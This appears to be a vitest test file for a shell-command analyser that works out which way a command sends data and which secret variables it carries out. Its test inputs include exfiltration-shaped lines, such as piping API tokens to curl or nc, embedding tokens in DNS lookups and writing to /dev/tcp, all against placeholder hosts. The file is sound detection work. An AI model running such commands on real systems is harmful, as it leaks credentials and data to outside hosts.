import { describe, expect, it } from "vitest";
import { lineContacts } from "../../../src/action/access/line-contacts.ts";
import { walkCommand } from "../../../src/action/shell/walk.ts";

function contacts(line: string) {
  const { invocations } = walkCommand(line);
  return invocations.flatMap(lineContacts(invocations));
}

const directions = (line: string) => [...new Set(contacts(line).map(({ direction }) => direction))];

describe("which way a command sends data", () => {
  it.each([
    "curl -d a=1 https://example.com",
    "curl -sSd @x https://example.com",
    "curl -F f=@x https://example.com",
    "curl -T x https://example.com",
    "curl --json '{}' https://example.com",
    "curl -G --data-urlencode q=x https://example.com",
    "curl --url-query a=b https://example.com",
    "curl -X PUT https://example.com",
    'curl -X "$METHOD" https://example.com',
    "wget --post-data a=b https://example.com",
    "wget --method=PUT --body-file=x https://example.com",
    "http POST https://example.com a=b",
    "http https://example.com f@x.png",
    "xh https://example.com a:=1",
    "scp a.tgz me@example.com:/srv",
    "rsync -a dist/ example.com:/srv",
    "aws s3 cp dist s3://bucket --recursive",
    "gsutil cp x gs://bucket",
    "git push https://example.com/x/y main",
    "cat x | nc example.com 80",
    "nc example.com 80 < x",
    "cat x | ssh example.com 'cat > y'",
    "openssl s_client -connect example.com:443 < x",
    "tftp example.com -c put x",
    "echo x > /dev/tcp/example.com/80",
    "docker push registry.example.com/x",
  ])("upload: %s", (line) => expect(directions(line)).toEqual(["upload"]));

  it.each([
    "curl https://example.com -o x",
    "curl -X GET https://example.com",
    "curl -sSL -H 'Accept: x' https://example.com",
    "wget https://example.com/x",
    "http https://example.com a==b",
    "scp me@example.com:/srv/a .",
    "aws s3 cp s3://bucket/x .",
    "aws s3 ls s3://bucket/",
    "gsutil ls -l gs://bucket/x",
    "git clone https://example.com/x/y",
    "npm view x --registry=https://example.com",
    "docker pull registry.example.com/x",
  ])("download: %s", (line) => expect(directions(line)).toEqual(["download"]));

  it.each([
    "dig example.com",
    "ping -c1 example.com",
    "nc -z example.com 80",
    "ssh me@example.com",
    "openssl s_client -connect example.com:443 </dev/null",
  ])("contact: %s", (line) => expect(directions(line)).toEqual(["contact"]));

  it.each(["frob https://example.com", "python3 -c 'f(\"https://example.com\")'"])(
    "is not known: %s",
    (line) => expect(directions(line)).toEqual([undefined]),
  );
});

describe("which variables go out with it", () => {
  const carried = (line: string) =>
    contacts(line).flatMap(({ carries = [] }) => carries.map(({ name, at }) => `${name} ${at}`));

  it.each([
    ['curl "https://x.example/?k=$API_KEY"', "API_KEY url"],
    ['curl "x.example/$API_KEY"', "API_KEY url"],
    ["curl --url=https://x.example/${API_KEY}", "API_KEY url"],
    ['curl "http://$API_TOKEN.x.example"', "API_TOKEN name"],
    ["dig $API_TOKEN.x.example", "API_TOKEN name"],
    ['dig "$(whoami).x.example"', "$() name"],
    ["curl https://me:$PASSWORD@x.example", "PASSWORD login"],
    ["git clone https://$GITHUB_TOKEN@github.com/x/y", "GITHUB_TOKEN login"],
    ['curl -H "Authorization: Bearer $TOKEN" https://x.example', "TOKEN login"],
    ['curl -sH "X-Api-Key: $API_KEY" https://x.example', "API_KEY login"],
    ['curl -H "X: $GITHUB_TOKEN" https://x.example', "GITHUB_TOKEN header"],
    ['wget --header="X: $DB_PASSWORD" https://x.example', "DB_PASSWORD header"],
    ['curl -u "me:$PASSWORD" https://x.example', "PASSWORD login"],
    ['curl -d "$CLIENT_SECRET" https://x.example', "CLIENT_SECRET body"],
    ['curl -d "$(printenv API_TOKEN)" https://x.example', "API_TOKEN body"],
    ['curl -G -d "k=$API_KEY" https://x.example', "API_KEY url"],
    ["echo $API_TOKEN | nc x.example 80", "API_TOKEN body"],
    ["printenv API_TOKEN | curl -d @- https://x.example", "API_TOKEN body"],
  ])("%s: %s", (line, expected) => expect(carried(line)).toEqual([expected]));

  it.each([
    'curl "https://x.example/$USER_ID"',
    'curl "https://x.example/?page=$NEXT_PAGE_TOKEN"',
    "curl 'https://x.example/?k=$API_KEY'",
    'curl -o "$TOKEN_FILE" https://x.example',
    'curl -d "$PWD" https://x.example',
    "dig $DOMAIN",
    "dig $(hostname)",
    "echo $API_TOKEN; curl https://x.example",
    "echo $API_TOKEN | docker login -u x --password-stdin registry.example.com",
    "curl https://x.example | grep $API_TOKEN",
  ])("none: %s", (line) => expect(carried(line)).toEqual([]));
});
